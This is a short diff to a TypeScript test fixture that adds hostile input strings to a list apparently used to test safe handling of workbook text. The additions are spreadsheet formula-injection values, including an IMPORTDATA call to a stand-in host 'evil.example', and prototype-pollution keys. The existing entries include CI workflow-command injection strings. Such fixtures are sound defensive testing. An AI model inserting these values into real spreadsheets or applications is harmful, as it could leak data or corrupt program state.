@@ -16,6 +16,13 @@ export const hostileTexts: readonly string[] = [
   '::error file=x::owned%0A::stop-commands::x\r\n::add-mask::y',
   'a\u202eb\u2066c\u0000d\u001b[31me',
   '{0} {{placeholder}} ${x}',
+  '＝IMPORTDATA("https://evil.example")',
+  '\t=1+1',
+  '\r-2+3',
+  '@SUM(1)',
+  '__proto__',
+  'constructor',
+  'prototype',
 ];
 
 /** A report whose every text that can come out of a workbook is the given one. */
